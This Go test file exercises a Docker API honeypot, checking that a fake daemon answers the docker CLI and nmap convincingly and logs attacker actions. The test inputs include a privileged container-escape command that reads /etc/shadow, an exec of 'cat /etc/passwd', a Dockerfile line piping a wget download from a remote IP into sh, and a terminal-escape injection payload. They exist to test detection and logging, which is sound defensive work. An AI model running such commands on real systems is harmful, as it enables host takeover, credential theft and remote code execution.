package dockerapi

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"decnet/internal/event"
	"decnet/internal/service"
	"decnet/internal/service/servicetest"
)

func start(t *testing.T, persona map[string]string) *servicetest.Harness {
	t.Helper()
	return servicetest.Start(t, "docker_api", service.Config{Hostname: "build-02", Persona: persona})
}

// docker runs the real docker CLI against the harness, with a config directory of
// its own so no user context or credential helper is consulted.
func docker(t *testing.T, h *servicetest.Harness, args ...string) (string, error) {
	t.Helper()
	env := []string{"DOCKER_HOST=tcp://" + h.Addr(Port), "DOCKER_CONFIG=" + t.TempDir(), "DOCKER_CONTEXT=", "DOCKER_TLS_VERIFY=", "DOCKER_API_VERSION="}
	return servicetest.Run(t, 90*time.Second, env, "docker", args...)
}

func TestCLIVersionAndPS(t *testing.T) {
	h := start(t, nil)
	out, err := docker(t, h, "version", "--format", "{{.Server.Version}} {{.Server.APIVersion}} {{.Server.Os}} {{.Server.KernelVersion}}")
	if err != nil || strings.TrimSpace(out) != "24.0.7 1.43 linux 5.15.0-116-generic" {
		t.Errorf("docker version: %q, %v", out, err)
	}
	out, err = docker(t, h, "version")
	if err != nil || !strings.Contains(out, "Server: Docker Engine - Community") || !strings.Contains(out, "API version:      1.43 (minimum version 1.12)") {
		t.Errorf("docker version: %v\n%s", err, out)
	}
	out, err = docker(t, h, "ps")
	if err != nil {
		t.Fatalf("docker ps: %v\n%s", err, out)
	}
	for _, want := range []string{"CONTAINER ID", "nginx:1.25-alpine", "0.0.0.0:8080->80/tcp", "web", "postgres:15", "jenkins"} {
		if !strings.Contains(out, want) {
			t.Errorf("docker ps lacks %q:\n%s", want, out)
		}
	}
	out, err = docker(t, h, "images")
	if err != nil || !strings.Contains(out, "redis") || !strings.Contains(out, "7-alpine") {
		t.Errorf("docker images: %v\n%s", err, out)
	}
	out, err = docker(t, h, "info")
	if !strings.Contains(out, "Server Version: 24.0.7") || !strings.Contains(out, "Name: build-02") {
		t.Errorf("docker info: %v\n%s", err, out)
	}
	h.Wait(t, 5*time.Second, "ps request", servicetest.Type(event.Request, "method=GET", "path=/v1.43/containers/json"))
}

// TestCLIRun: `docker run alpine id` on a host without the image tries to pull it,
// and the pull fails as on a host without registry access; the create payload is
// recorded. With a present image, the container is created and fails to start.
func TestCLIRun(t *testing.T) {
	h := start(t, nil)
	out, err := docker(t, h, "run", "--rm", "alpine", "id")
	if err == nil || !strings.Contains(out, "Unable to find image 'alpine:latest' locally") || !strings.Contains(out, "registry-1.docker.io") {
		t.Errorf("docker run alpine: %v\n%s", err, out)
	}
	e := h.Wait(t, 5*time.Second, "create", servicetest.Type(event.Command, "action=container-create", "image=alpine", "command=id"))
	if e.AttackerIP != "127.0.0.1" || !strings.Contains(e.Fields["payload"], `"Cmd":["id"]`) {
		t.Errorf("create event %+v", e)
	}
	h.Wait(t, 5*time.Second, "pull", servicetest.Type(event.DownloadAttempt, "image=docker.io/library/alpine:latest"))

	out, err = docker(t, h, "run", "--privileged", "-v", "/:/host", "ubuntu:22.04", "chroot", "/host", "sh", "-c", "id; cat /etc/shadow")
	if err == nil || !strings.Contains(out, "OCI runtime create failed") {
		t.Errorf("docker run ubuntu: %v\n%s", err, out)
	}
	e = h.Wait(t, 5*time.Second, "create", servicetest.Type(event.Command, "action=container-create", "image=ubuntu:22.04"))
	if e.Fields["command"] != "chroot /host sh -c id; cat /etc/shadow" || e.Fields["binds"] != "/:/host" || e.Fields["privileged"] != "true" {
		t.Errorf("create event fields %v", e.Fields)
	}
	h.Wait(t, 5*time.Second, "escape alert", servicetest.Type(event.Alert, "alert=container-escape"))
	h.Wait(t, 5*time.Second, "start", servicetest.Type(event.Command, "action=container-start"))
}

func TestCLIExec(t *testing.T) {
	h := start(t, nil)
	out, err := docker(t, h, "exec", "web", "cat", "/etc/passwd")
	if err != nil || out != "" {
		t.Errorf("docker exec: %q, %v", out, err)
	}
	h.Wait(t, 5*time.Second, "exec create", servicetest.Type(event.Command, "action=exec-create", "command=cat /etc/passwd"))
	h.Wait(t, 5*time.Second, "exec start", servicetest.Type(event.Command, "action=exec-start"))
	out, err = docker(t, h, "exec", "nosuch", "id")
	if err == nil || !strings.Contains(out, "No such container: nosuch") {
		t.Errorf("docker exec nosuch: %v\n%s", err, out)
	}
}

// TestPingHeaders checks the raw /_ping and OPTIONS answers nmap and the CLI read.
func TestPingHeaders(t *testing.T) {
	h := start(t, map[string]string{"version": "20.10.24"})
	c, err := net.Dial("tcp", h.Addr(Port))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "OPTIONS / HTTP/1.0\r\n\r\n")
	c.SetDeadline(time.Now().Add(5 * time.Second))
	b, _ := io.ReadAll(c)
	head := string(b)
	if !strings.HasPrefix(head, "HTTP/1.0 200 OK\r\nApi-Version: 1.41\r\nDocker-Experimental: false\r\nOstype: linux\r\nServer: Docker/20.10.24 (linux)\r\nDate: ") || !strings.HasSuffix(head, "\r\nContent-Length: 0\r\n\r\n") {
		t.Errorf("OPTIONS answer %q", head)
	}
	resp, err := http.Get("http://" + h.Addr(Port) + "/_ping")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "OK" || resp.Header.Get("Api-Version") != "1.41" || resp.Header.Get("Builder-Version") != "2" {
		t.Errorf("_ping: %q %v", body, resp.Header)
	}
	resp, err = http.Get("http://" + h.Addr(Port) + "/v1.45/version")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 400 || string(body) != "{\"message\":\"client version 1.45 is too new. Maximum supported API version is 1.41\"}\n" {
		t.Errorf("too new: %d %q", resp.StatusCode, body)
	}
	resp, err = http.Get("http://" + h.Addr(Port) + "/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 404 || string(body) != "{\"message\":\"page not found\"}\n" {
		t.Errorf("GET /: %d %q", resp.StatusCode, body)
	}
}

func TestHostileRequestRecorded(t *testing.T) {
	h := start(t, nil)
	c, err := net.Dial("tcp", h.Addr(Port))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	payload := `{"Image":"x]\"\n\u001b[31m","Cmd":["sh","-c","echo ]\""]}`
	io.WriteString(c, "POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "+strconv.Itoa(len(payload))+"\r\n\r\n"+payload)
	c.SetDeadline(time.Now().Add(5 * time.Second))
	line, _ := bufio.NewReader(c).ReadString('\n')
	if line != "HTTP/1.1 404 Not Found\r\n" {
		t.Errorf("status %q", line)
	}
	e := h.Wait(t, 5*time.Second, "create", servicetest.Type(event.Command, "action=container-create"))
	if e.Fields["image"] != service.Printable("x]\"\n\x1b[31m", 0) || e.Fields["image_b64"] == "" || e.Fields["command"] != `sh -c echo ]"` {
		t.Errorf("fields %v", e.Fields)
	}
}

func TestNmapVersion(t *testing.T) {
	if testing.Short() {
		t.Skip("nmap scan in -short mode")
	}
	h := start(t, nil)
	_, port, _ := net.SplitHostPort(h.Addr(Port))
	out, _ := servicetest.Run(t, 3*time.Minute, nil, "nmap", "-Pn", "-n", "-sV", "-p", port, "127.0.0.1")
	if !strings.Contains(out, "open  docker  Docker 24.0.7 (API 1.43)") {
		t.Errorf("nmap did not identify the Docker API:\n%s", out)
	}
}

// TestBuildContextStored posts a build context as docker build does: it is
// hashed (and kept when an artifact directory is configured) and the build fails
// at its FROM pull.
func TestBuildContextStored(t *testing.T) {
	dir := t.TempDir()
	h := servicetest.Start(t, "docker_api", service.Config{ArtifactDir: dir})
	ctx := []byte("Dockerfile\x00FROM alpine\nRUN wget http://203.0.113.9/x.sh | sh\n")
	resp, err := http.Post("http://"+h.Addr(Port)+"/v1.43/build?t=miner%3Alatest&dockerfile=Dockerfile", "application/x-tar", bytes.NewReader(ctx))
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !strings.Contains(string(body), `"errorDetail":{"message":"Get \"https://registry-1.docker.io/v2/\"`) {
		t.Errorf("build answer %d %s", resp.StatusCode, body)
	}
	sum := sha256.Sum256(ctx)
	e := h.Wait(t, 5*time.Second, "build", servicetest.Type(event.FileUpload, "action=image-build", "tag=miner:latest", "sha256="+hex.EncodeToString(sum[:]), "stored=true"))
	if kept, err := os.ReadFile(filepath.Join(dir, e.Fields["sha256"])); err != nil || !bytes.Equal(kept, ctx) {
		t.Errorf("stored context %q, %v", kept, err)
	}
}
